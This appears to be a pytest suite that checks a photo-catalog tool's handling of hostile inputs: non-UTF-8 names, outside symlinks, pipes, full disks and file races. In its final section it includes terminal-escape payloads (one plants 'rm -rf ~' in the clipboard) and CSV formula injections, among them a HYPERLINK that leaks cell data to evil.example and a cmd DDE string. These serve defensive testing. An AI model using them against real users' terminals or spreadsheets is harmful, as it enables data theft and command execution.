"""Imports tried as an attacker and as a careless user would (issue 12), through the real command.

- file names that are not UTF-8 (Latin-1, Shift-JIS, every byte 0x80–0xFF): imported, the name
  kept exactly, shown with U+FFFD; a record the catalog cannot hold fails alone;
- links in an imported folder to files elsewhere, named pipes: not followed, never quoted;
- the data directory imported into itself;
- a full disk: a clear message, a summary, consistent catalog;
- a file rewritten between hashing and copying, keeping its size and modification time;
- terminal escape sequences in names and captions; spreadsheet formulas in CSV exports.
"""

from __future__ import annotations

import csv
import dataclasses
import functools
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from catalog.asset import Asset
from catalog.desk import Desk
from catalog.errors import FileProblem, RecordError
from catalog.ingest import Status, fingerprint
from catalog.metadata import RawImage
from catalog.settings import Settings
from catalog.store import CatalogStore
from media.embed import EmbeddedMetadata
from media.reader import read_image
from media.store import MediaStore
from tests.helpers.photo_files import write_photo, write_photos

PHOTODESK = str(Path(sys.executable).with_name("photodesk"))
HANG = 300  # seconds: a guard that turns a hang into a failure, not a speed limit
CONTROL_BYTES = set(range(0x00, 0x20)) - {0x0A, 0x09}  # what a terminal must never get raw from a file


def photodesk(settings: Settings, *args: str) -> subprocess.CompletedProcess:
    """The installed command, its output as bytes (names that are not UTF-8 stay visible)."""
    return subprocess.run([PHOTODESK, *args, "--data", str(settings.data_dir)], capture_output=True, timeout=HANG)


def write_named(folder: Path, name: bytes, seed: int) -> bytes:
    """A photo whose file name is these exact bytes; the full path as bytes."""
    path = os.fsencode(folder) + b"/" + name
    write_photo(Path(os.fsdecode(path)), seed=seed, size=(96, 64))
    return path


# -- file names that are not UTF-8 ------------------------------------------------------------

LATIN_1 = "Café Müller, São Paulo.jpg".encode("latin-1")
SHIFT_JIS = "東京の写真.jpg".encode("shift_jis")
RAW_BYTES = [b"raw-" + bytes(range(start, start + 16)) + b".jpg" for start in range(0x80, 0x100, 16)]


@pytest.fixture
def foreign_names(tmp_path: Path) -> list[bytes]:
    """A folder of photos named in Latin-1, Shift-JIS and every byte 0x80–0xFF, and one in UTF-8."""
    folder = tmp_path / "card"
    folder.mkdir()
    names = [LATIN_1, SHIFT_JIS, *RAW_BYTES, "plain-ünïcode.jpg".encode()]
    return [write_named(folder, name, seed) for seed, name in enumerate(names)]


@pytest.mark.slow
def test_names_that_are_not_utf8_are_imported_and_kept_exactly(
    settings: Settings, tmp_path: Path, foreign_names: list[bytes]
) -> None:
    done = photodesk(settings, "import", "--json", str(tmp_path / "card"))
    assert done.returncode == 0, done.stderr
    assert b"Traceback" not in done.stderr
    summary = json.loads(done.stdout)
    assert (summary["imported"], summary["failed"]) == (len(foreign_names), [])
    with CatalogStore(settings.catalog_path) as store:
        assets = list(store.iter_assets())
    exact = {os.fsencode(asset.os_source_path): asset for asset in assets}
    assert set(exact) == set(foreign_names)  # every name comes back byte for byte
    latin = exact[foreign_names[0]]
    assert latin.filename == "Caf\ufffd M\ufffdller, S\ufffdo Paulo.jpg"
    assert latin.source_path_exact.endswith("Caf%E9 M%FCller, S%E3o Paulo.jpg")
    assert exact[foreign_names[-1]].source_path_exact is None  # valid UTF-8 needs no exact form
    # Shown and exported as valid UTF-8; found again by check, which reads the exact paths.
    for asset in assets:
        shown = photodesk(settings, "show", asset.id)
        assert shown.returncode == 0 and asset.filename in shown.stdout.decode("utf-8")
    photodesk(settings, "export").stdout.decode("utf-8")
    assert b"agree" in photodesk(settings, "check").stdout
    assert photodesk(settings, "import", str(tmp_path / "card")).stdout.startswith(
        f"0 imported, {len(foreign_names)} unchanged".encode())


@pytest.mark.slow
def test_check_repair_brings_back_an_original_from_its_exact_path(
    settings: Settings, tmp_path: Path, foreign_names: list[bytes]
) -> None:
    assert photodesk(settings, "import", str(tmp_path / "card")).returncode == 0
    with CatalogStore(settings.catalog_path) as store:
        asset = next(a for a in store.iter_assets() if os.fsencode(a.os_source_path).endswith(b"/" + SHIFT_JIS))
    MediaStore(settings.media_dir).path_for(asset.sha256, "original").unlink()
    repaired = photodesk(settings, "check", "--repair")
    assert b"(repaired)" in repaired.stdout, repaired.stdout
    assert b"agree" in photodesk(settings, "check").stdout


@pytest.mark.slow
def test_the_web_shows_such_names_with_replacement_characters(
    settings: Settings, tmp_path: Path, foreign_names: list[bytes]
) -> None:
    from web import create_app

    assert photodesk(settings, "import", str(tmp_path / "card")).returncode == 0
    with CatalogStore(settings.catalog_path) as store:
        asset = next(a for a in store.iter_assets() if a.filename.startswith("Caf"))
    client = create_app(settings).test_client()
    page = client.get(f"/assets/{asset.id}")
    assert page.status_code == 200 and "Caf\ufffd M\ufffdller" in page.get_data(as_text=True)
    record = client.get(f"/api/assets/{asset.id}").get_json()["asset"]
    assert asset.source_path_exact is not None and record["source_path_exact"] is None  # a server path: hidden
    assert str(tmp_path) not in page.get_data(as_text=True)
    with client.get(f"/assets/{asset.id}/original") as original:
        assert original.status_code == 200 and "attachment" in original.headers["Content-Disposition"]


def _reader_failing_one_record(path: Path, **limits: int) -> RawImage:
    """The real reader, except that for ``bad-*`` files it reports a format name no catalog can store."""
    raw = read_image(path, **limits)
    if path.name.startswith("bad-"):
        raw = dataclasses.replace(raw, format="JPEG\udcff")  # a lone surrogate: not Unicode text
    return raw


def test_a_record_the_catalog_cannot_hold_fails_alone_and_the_batch_commits(settings: Settings, tmp_path: Path) -> None:
    write_photos(tmp_path / "in", 5)
    write_photo(tmp_path / "in" / "bad-one.jpg", seed=99)
    with Desk.open(settings) as desk:
        desk.reader = functools.partial(_reader_failing_one_record)
        outcomes = list(desk.import_files([tmp_path / "in"], jobs=1))
        failed = [o for o in outcomes if o.status is Status.FAILED]
        assert [Path(o.path).name for o in failed] == ["bad-one.jpg"]
        assert failed[0].reason.startswith("cannot be recorded in the catalog")
        assert sum(o.status is Status.IMPORTED for o in outcomes) == 5
        assert desk.catalog.count() == 5
        bad_sha = fingerprint(tmp_path / "in" / "bad-one.jpg").sha256
        assert desk.catalog.get_by_sha256(bad_sha) is None
    assert bad_sha not in MediaStore(settings.media_dir).stored_hashes()  # no orphaned files left behind


def test_the_store_refuses_such_a_record_with_our_error_and_keeps_nothing(settings: Settings, tmp_path: Path) -> None:
    asset = Asset(id="0" * 16, sha256="0" * 64, file_size=1, filename="x.jpg", source_path="/x.jpg", caption="a\udce9")
    with CatalogStore(settings.catalog_path) as store:
        with pytest.raises(RecordError, match="cannot be recorded"):
            store.upsert(asset)
        assert store.count() == 0


# -- links, pipes and the data directory ------------------------------------------------------


@pytest.mark.slow
def test_links_out_of_the_imported_folder_are_not_followed_unless_asked(settings: Settings, tmp_path: Path) -> None:
    inbox, elsewhere = tmp_path / "inbox", tmp_path / "elsewhere"
    write_photo(inbox / "own.jpg", seed=1)
    write_photo(elsewhere / "private.jpg", seed=2)
    (elsewhere / "secret.key").write_bytes(b"\x8f\x01SECRET-KEY-BYTES")
    (inbox / "private.jpg").symlink_to(elsewhere / "private.jpg")
    (inbox / "secret.jpg").symlink_to(elsewhere / "secret.key")
    (inbox / "again.jpg").symlink_to(inbox / "own.jpg")  # inside the folder: the same file, once
    os.mkfifo(inbox / "pipe.jpg")
    done = photodesk(settings, "import", "--json", str(inbox))
    assert done.returncode == 1
    summary = json.loads(done.stdout)
    reasons = {Path(item["path"]).name: item["reason"] for item in summary["failed"]}
    assert summary["imported"] == 1
    assert set(reasons) == {"private.jpg", "secret.jpg", "pipe.jpg"}
    assert "outside the imported folder: not followed (use --follow-links" in reasons["private.jpg"]
    assert "outside the imported folder" in reasons["secret.jpg"]
    assert reasons["pipe.jpg"] == "not a regular file (a named pipe): not imported"
    assert b"SECRET" not in done.stdout + done.stderr and b"8f 01" not in done.stdout + done.stderr
    followed = photodesk(settings, "import", "--json", "--follow-links", str(inbox))
    summary = json.loads(followed.stdout)
    assert summary["imported"] == 1  # private.jpg, from elsewhere, as asked
    reasons = {Path(item["path"]).name: item["reason"] for item in summary["failed"]}
    assert set(reasons) == {"secret.jpg", "pipe.jpg"}
    assert b"SECRET" not in followed.stdout + followed.stderr and b"8f 01" not in followed.stdout + followed.stderr


@pytest.mark.slow
def test_the_data_directory_is_never_imported_into_itself(settings: Settings, tmp_path: Path) -> None:
    write_photos(tmp_path, 2)
    assert photodesk(settings, "import", str(tmp_path)).returncode == 0  # data_dir is tmp_path/photodesk-data
    inside = photodesk(settings, "import", str(settings.data_dir / "media"))
    assert inside.returncode == 2
    assert inside.stderr.decode().startswith("photodesk: ") and b"is inside the data directory" in inside.stderr
    again = photodesk(settings, "import", "--json", str(tmp_path))  # the folder holding the data directory
    assert again.returncode == 0, again.stderr
    summary = json.loads(again.stdout)
    assert (summary["imported"], summary["unchanged"]) == (0, 2)  # its previews were not taken for photos
    with CatalogStore(settings.catalog_path) as store:
        assert store.count() == 2


# -- a file that changes between hashing and copying ------------------------------------------


def test_content_rewritten_with_the_same_size_and_time_is_neither_copied_nor_linked_under_the_old_hash(
    settings: Settings, tmp_path: Path
) -> None:
    photo = write_photo(tmp_path / "in" / "photo.jpg", seed=1)
    before = fingerprint(photo)
    raw = read_image(photo)
    other = write_photo(tmp_path / "other.jpg", seed=2, size=(800, 600))
    data = other.read_bytes()[: before.file_size].ljust(before.file_size, b"\0")
    photo.write_bytes(data)  # another picture's bytes, the same size ...
    os.utime(photo, ns=(before.modified_ns, before.modified_ns))  # ... and the same modification time
    assert (photo.stat().st_size, photo.stat().st_mtime_ns) == (before.file_size, before.modified_ns)
    media = MediaStore(settings.media_dir)
    for link in (False, True):  # copied, or linked with --link
        with pytest.raises(FileProblem, match="the file changed while it was being imported"):
            media.store(photo, raw, sha256=before.sha256, link=link, orientation=None)
        assert before.sha256 not in media.stored_hashes()
        assert media.temporary_files() == []


# -- a full disk ------------------------------------------------------------------------------


def _on_a_small_disk(script: str, *, kilobytes: int, env: dict[str, str]) -> subprocess.CompletedProcess:
    """Run ``script`` with ``$DATA`` on a tmpfs of this size, in a mount namespace of its own."""
    if shutil.which("unshare") is None:
        pytest.skip("unshare (util-linux) is needed to mount a small file system for the test")
    body = f'mount -t tmpfs -o size={kilobytes}k tmpfs "$DATA" || exit 97\n{script}'
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", body],
                          env={**os.environ, **env}, capture_output=True, text=True, timeout=HANG)
    if done.returncode == 97 or "unshare failed" in done.stderr:
        pytest.skip(f"cannot mount a small file system here: {done.stderr.strip()}")
    return done


FULL_DISK_SCRIPT = """
photodesk import --jobs 1 --json "$IN/early" --data "$DATA" > "$OUT/early.json" || exit 98
used=$(du -sk "$DATA/" | cut -f1)
mount -o remount,size=$((used + ROOM))k "$DATA"
photodesk import --jobs 1 --json "$IN" --data "$DATA" > "$OUT/first.json" 2> "$OUT/first.err"
echo $? > "$OUT/first.rc"
photodesk export --data "$DATA" > "$OUT/exported.jsonl" 2>> "$OUT/first.err"
photodesk check --data "$DATA" > "$OUT/check.txt" 2>&1
mount -o remount,size=64m "$DATA"
photodesk import --jobs 1 --json "$IN" --data "$DATA" > "$OUT/second.json" 2> "$OUT/second.err"
echo $? > "$OUT/second.rc"
photodesk check --data "$DATA" > "$OUT/check-after.txt" 2>&1
"""


@pytest.mark.parametrize("what_fills", ["media", "catalog"])
@pytest.mark.slow
def test_a_full_disk_stops_the_import_with_a_summary_and_a_consistent_catalog(tmp_path: Path, what_fills: str) -> None:
    early = write_photos(tmp_path / "in" / "early", 8, size=(1200, 900))
    later = write_photos(tmp_path / "in" / "later", 24, size=(1200, 900), start=8)
    data, out = tmp_path / "data", tmp_path / "out"
    data.mkdir()
    out.mkdir()
    script = FULL_DISK_SCRIPT
    if what_fills == "catalog":  # the media store lives elsewhere: the catalog and index fill the disk
        (tmp_path / "media").mkdir()
        script = f'ln -s "{tmp_path / "media"}" "$DATA/media"\n' + script
    # Room left once the early photos are in: a few more photos' files, or a little catalog and index.
    room = 600 if what_fills == "media" else 60
    env = {"DATA": str(data), "IN": str(tmp_path / "in"), "OUT": str(out), "ROOM": str(room),
           "PATH": f"{Path(PHOTODESK).parent}:{os.environ['PATH']}"}
    ran = _on_a_small_disk(script, kilobytes=16 * 1024, env=env)
    assert ran.returncode == 0, ran.stderr

    errors = (out / "first.err").read_text()
    assert (out / "first.rc").read_text().strip() == "1", errors
    assert "Traceback" not in errors
    first = json.loads((out / "first.json").read_text())  # the summary is printed
    assert "no space left on the disk holding" in first["stopped"] and str(data) in first["stopped"]
    assert f"photodesk: {first['stopped']}; the import stopped" in errors
    assert "free some space, then run the import again" in errors
    assert first["unchanged"] == len(early) and first["imported"] < len(later)
    exported = [json.loads(line) for line in (out / "exported.jsonl").read_text().splitlines()]
    # What was committed stays: the early photos and what the summary calls imported, nothing else.
    assert len(exported) == len(early) + first["imported"]
    problems = (out / "check.txt").read_text().splitlines()[:-1]
    # What is recorded has all its files; the only leftovers are files not recorded yet.
    assert all("the catalog does not know" in line or "temporary file" in line for line in problems), problems

    second = json.loads((out / "second.json").read_text())
    assert (out / "second.rc").read_text().strip() == "0", (out / "second.err").read_text()
    assert second["imported"] + second["unchanged"] == len(early) + len(later) and second["failed"] == []
    assert f"agree ({len(early) + len(later)} assets)" in (out / "check-after.txt").read_text()


# -- what the terminal and the spreadsheet get ------------------------------------------------

OSC_TITLE = "\x1b]0;PWNED\x07"
OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07"
C1_CSI = "\x9b31m"


@pytest.mark.slow
def test_terminal_escapes_from_names_and_captions_never_reach_the_terminal(settings: Settings, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    meta = EmbeddedMetadata(caption=f"Storm {C1_CSI}hits{OSC_TITLE} the coast", credit=f"AP{C1_CSI}",
                            headline="Storm")
    write_photo(inbox / f"storm{OSC_TITLE}.jpg", metadata=meta)
    (inbox / f"broken{OSC_CLIPBOARD}.jpg").write_bytes(b"\x8f not a picture at all")
    done = photodesk(settings, "import", str(inbox))
    assert done.returncode == 1
    assert b"broken]52;c;cm0gLXJmIH4K.jpg: not an image" in done.stderr
    found = photodesk(settings, "search", "storm", "coast")
    assert b"1 pictures" in found.stdout
    with CatalogStore(settings.catalog_path) as store:
        asset = next(store.iter_assets())
    assert C1_CSI in asset.caption and "\x1b" in asset.filename  # kept in the catalog, as the file says
    shown = photodesk(settings, "show", asset.id)
    for output in (done.stdout, done.stderr, found.stdout, found.stderr, shown.stdout):
        assert not CONTROL_BYTES & set(output), output
        assert "\x9b" not in output.decode("utf-8")
    listed = photodesk(settings, "search", "--json", "storm")
    hit = json.loads(listed.stdout)["hits"][0]
    assert C1_CSI in hit["caption"]  # JSON keeps the text, escaped ("\u009b")
    assert not CONTROL_BYTES & set(listed.stdout) and "\x9b" not in listed.stdout.decode("utf-8")


@pytest.mark.slow
def test_csv_export_cells_never_start_a_formula(settings: Settings, tmp_path: Path) -> None:
    meta = EmbeddedMetadata(
        caption="=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", headline="+cmd|' /C calc'!A0",
        credit="-2+3", city="@SUM(1+1)", source="\tTab first", country="Plain text",
        keywords=("=1+1", "storm"),
    )
    write_photo(tmp_path / "in" / "formula.jpg", metadata=meta)
    assert photodesk(settings, "import", str(tmp_path / "in")).returncode == 0
    rows = list(csv.DictReader(io.StringIO(photodesk(settings, "export", "--format", "csv").stdout.decode())))
    row = rows[0]
    assert row["caption"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    assert row["headline"] == "'+cmd|' /C calc'!A0"
    assert row["credit"] == "'-2+3"
    assert row["city"] == "'@SUM(1+1)"
    assert row["country"] == "Plain text"
    assert row["keywords"] == "'=1+1; storm"
    formulas = [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
    assert formulas == []


@pytest.mark.slow
def test_terminal_escapes_in_a_story_never_reach_the_terminal(settings: Settings, tmp_path: Path) -> None:
    page = tmp_path / "story.html"
    page.write_text(
        f"<html><head><title>Storm{OSC_TITLE} floods the coast</title></head><body><article>"
        f"<h1>Storm{OSC_TITLE} floods the coast</h1><p class=byline>By Ann{C1_CSI} Lee</p>"
        f"<figure><img src='https://news.example/photo{OSC_CLIPBOARD}.jpg' width=1200 height=800>"
        f"<figcaption>Waves hit the pier.{C1_CSI} (AP Photo/Jane Roe{OSC_TITLE})</figcaption></figure>"
        "</article></body></html>", encoding="utf-8")
    for extra in ((), ("--json",)):
        done = photodesk(settings, "article", "add", "https://news.example/story", "--file", str(page), *extra)
        assert done.returncode == 0, done.stderr
        assert b"floods the coast" in done.stdout
        for output in (done.stdout, done.stderr):
            assert not CONTROL_BYTES & set(output), output
            assert "\x9b" not in output.decode("utf-8")
